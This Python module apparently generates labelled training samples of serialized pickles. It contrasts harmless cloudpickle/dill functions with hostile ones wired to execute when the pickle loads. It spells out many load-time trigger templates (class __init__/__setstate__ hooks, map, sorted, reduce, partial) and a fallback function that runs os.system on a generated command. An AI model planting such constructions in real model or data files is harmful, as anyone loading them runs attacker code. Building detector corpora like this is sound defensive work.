"""Functions by value, as cloudpickle and dill write them: honest ones lie there, an attacker's is called at load.

Sources are compiled to get at their code objects, never run.
"""

from __future__ import annotations

from types import CodeType
from typing import Any

from train.corpus.draw import Draw
from train.corpus.gadgets import payloads
from train.corpus.honest.values import KEYS, key, scalar
from train.corpus.spelling.expressions import Build, Call, New, Ref, Same, Steps
from train.corpus.spelling.scripts import helper

_PLAIN = (type(None), bool, int, float, str, bytes)
_GLOBALS = ("numpy", "torch", "pandas", "os", "re", "math", "json", "requests")


def _constant(value: Any, rng: Draw) -> Any:
    """Return a constant of a code object as an expression; nested code objects are made too."""
    if isinstance(value, CodeType):
        return code_expression(value, rng)
    if isinstance(value, tuple):
        return tuple(_constant(part, rng) for part in value)
    return value if isinstance(value, _PLAIN) else None


def code_expression(code: CodeType, rng: Draw) -> Any:
    """Return the call that makes a code object."""
    maker: Any = rng.choice(
        (
            Ref("dill._dill", "_create_code"),
            Call(Ref("cloudpickle.cloudpickle", "_builtin_type"), ("CodeType",)),
            Call(Ref("joblib.externals.cloudpickle.cloudpickle", "_builtin_type"), ("CodeType",)),
        )
    )
    counts = (code.co_argcount, code.co_posonlyargcount, code.co_kwonlyargcount, code.co_nlocals, code.co_stacksize)
    constants = tuple(_constant(part, rng) for part in code.co_consts)
    names = (code.co_names, code.co_varnames, code.co_filename, code.co_name, code.co_qualname)
    places = (code.co_firstlineno, code.co_linetable, code.co_exceptiontable, code.co_freevars, code.co_cellvars)
    return Call(maker, (*counts, code.co_flags, code.co_code, constants, *names, *places))


def function_of(source: str, rng: Draw) -> Any:
    """Return the expression of the function that a source defines.

    Raises:
        SyntaxError: it is no Python.
        StopIteration: it defines none.
    """
    file = rng.choice(
        ("<ipython-input-1>", "/tmp/ipykernel_7/1.py", "<stdin>", "train.py", f"/app/{rng.choice(KEYS)}.py")
    )
    code = next(c for c in payloads.compiled(source, file).co_consts if isinstance(c, CodeType))
    made = code_expression(code, rng)
    name = code.co_name
    module = rng.choice(("__main__", "train", f"src.{rng.choice(KEYS)}"))
    scope = {"__name__": module, "__builtins__": None} if rng.random() < 0.3 else {"__name__": module}
    base = Call(
        Ref("cloudpickle.cloudpickle", "_make_function"),
        (made, {"__name__": module, "__package__": None}, None, None, None),
    )
    state: tuple[dict[str, Any], dict[str, Any]] = (
        {"__name__": name, "__module__": module, "__doc__": None, "__annotations__": {}},
        {"_cloudpickle_submodules": []},
    )
    return rng.template(
        (
            lambda: Call(Ref("dill._dill", "_create_function"), (made, scope, name, None, None)),
            lambda: Build(base, state),
            lambda: base,
            lambda: Build(
                Call(
                    Ref("cloudpickle.cloudpickle", "_make_skel_func"),
                    (made, 0, {"__package__": None, "__name__": module}),
                ),
                {"globals": {}, "defaults": None, "dict": {}, "module": module},
            ),
            lambda: Call(Call(Ref("cloudpickle.cloudpickle", "_builtin_type"), ("FunctionType",)), (made, scope)),
            lambda: Call(
                Ref("joblib.externals.cloudpickle.cloudpickle", "_make_function"), (made, scope, name, None, None)
            ),
        )
    )()


def _imports(rng: Draw) -> dict[str, Any]:
    makers = (("cloudpickle.cloudpickle", "subimport"), ("dill._dill", "_import_module"))
    return {name: Call(Ref(*rng.choice(makers)), (name,)) for name in rng.sample(_GLOBALS, rng.randrange(3))}


def honest_source(rng: Draw) -> str:
    """Return a function of a notebook: it computes, and some open files or connect, when somebody calls them."""
    k, w = rng.choice(KEYS), rng.choice(KEYS)
    body = rng.template(
        (
            lambda: f"    z = x.{k}(y)\n    return z * {rng.randrange(99)}\n",
            lambda: f"    import numpy as np\n    return np.{rng.choice(('mean', 'sum', 'log', 'exp'))}(x) + y\n",
            lambda: f"    with open(x) as f:\n        return f.read().split({w!r})\n",
            lambda: f"    import os\n    return os.path.join(os.environ.get({k.upper()!r}, '.'), str(x))\n",
            lambda: (
                f"    import requests\n    return requests.get({payloads.url(rng)!r}, params={{{k!r}: x}}).json()\n"
            ),
            lambda: f"    return [i.{k} for i in x if i.{w} > y]\n",
            lambda: f"    import subprocess\n    return subprocess.check_output(['nvidia-smi', {w!r}]).decode()\n",
            lambda: f"    x[{k!r}] = x[{w!r}].fillna(y)\n    return x\n",
            lambda: f"    import torch\n    return torch.load({payloads.path(rng)!r})[{k!r}]\n",
            lambda: f"    import json\n    with open({payloads.path(rng)!r}, 'w') as f:\n        json.dump(x, f)\n",
            lambda: f"    print({benign_text(rng)!r}, x)\n    return eval(y)\n",
        )
    )()
    return f"def {k}_{w}(x, y=1):\n{body}"


def benign_text(rng: Draw) -> str:
    """Return a short text of a log line."""
    return f"{rng.choice(KEYS)}: {rng.choice(KEYS)}"


def hostile_source(rng: Draw) -> str:
    """Return a function with an attacker's statements in it, some behind an honest beginning."""
    lines = payloads.code(rng).splitlines() or ["pass"]
    body = "".join(f"    {line}\n" for line in lines)
    if rng.random() < 0.3:
        body = f"    {rng.choice(KEYS)} = {rng.randrange(99)}\n{body}"
    return f"def {rng.choice(KEYS)}_{rng.choice(KEYS)}(*x):\n{body}    return x\n"


def hostile_function(rng: Draw) -> Any:
    """Return a function with an attacker's statements in it."""
    for _ in range(20):
        try:
            return function_of(hostile_source(rng), rng)
        except (SyntaxError, ValueError, StopIteration):  # not every payload fits into a function
            continue
    return function_of(f"def f(*x):\n    __import__('os').system({payloads.command(rng)!r})\n", rng)


def called_function(rng: Draw) -> Any:
    """Return an attack: a function by value that is called when the pickle is loaded."""
    f = hostile_function(rng)
    w = payloads.word(rng)
    return rng.template(
        (
            lambda: Call(f, ()),
            lambda: Call(f, (scalar(rng),)),
            lambda: Call(Ref("builtins", "list"), (Call(Ref("builtins", "map"), (f, [scalar(rng)])),)),
            lambda: Call(Call(helper("functools", "partial", rng), (f, scalar(rng))), ()),
            lambda: Call(Call(helper("operator", "methodcaller", rng), ("__call__",)), (f,)),
            lambda: Call(Call(Ref("builtins", "type"), (w.title(), (), {"__init__": f})), ()),
            lambda: Build(New(Call(Ref("builtins", "type"), (w.title(), (), {"__setstate__": f}))), {w: scalar(rng)}),
            lambda: Call(_skeleton_class({"__init__": f}, rng), ()),
            lambda: Build(New(_skeleton_class({"__setstate__": f}, rng)), {w: scalar(rng)}),
            lambda: Call(Ref("builtins", "sorted"), ([scalar(rng)], None, f)),
            lambda: Call(Ref("functools", "reduce"), (f, [1, scalar(rng)])),
            lambda: {w: Call(f, ()), key(rng): scalar(rng)},
        )
    )()


def lying_function(rng: Draw) -> Any:
    """Return an honest function, class or module by value; nothing in it is called."""
    f = function_of(honest_source(rng), rng)
    return rng.template(
        (
            lambda: f,
            lambda: {key(rng): f, key(rng): scalar(rng)},
            lambda: Call(helper("functools", "partial", rng), (f, scalar(rng))),
            lambda: Build(
                Call(Ref("sklearn.preprocessing", "FunctionTransformer"), ()), {"func": f, "validate": False}
            ),
            lambda: _skeleton_class({"predict": f, key(rng): scalar(rng)}, rng),
            lambda: New(_skeleton_class({"__init__": f, "transform": f}, rng)),
            lambda: Steps(tuple(_imports(rng).values()), f),
            lambda: [f, function_of(honest_source(rng), rng)],
            lambda: _imports(rng) | {"run": f},
            lambda: Call(Ref("builtins", "map"), (f, [scalar(rng)])),
        )
    )()


def _skeleton_class(space: dict[str, Any], rng: Draw) -> Any:
    """Return a class by value, as cloudpickle or dill makes it."""
    name = rng.choice(KEYS).title()
    if rng.random() < 0.4:
        maker = Ref("dill._dill", "_create_type")
        kind = Call(Ref("dill._dill", "_load_type"), ("TypeType",))
        return Call(maker, (kind, name, (Ref("builtins", "object"),), space))
    made = Call(
        Ref("cloudpickle.cloudpickle", "_make_skeleton_class"),
        (
            Ref("builtins", "type"),
            name,
            (Ref("builtins", "object"),),
            {"__module__": "__main__"},
            rng.randbytes(16).hex(),
            None,
        ),
    )
    setter = Ref("cloudpickle.cloudpickle", "_class_setstate")
    skeleton = Same(made)
    return Steps((Call(setter, (skeleton, (space, {}))),), skeleton) if rng.random() < 0.5 else Build(made, (space, {}))
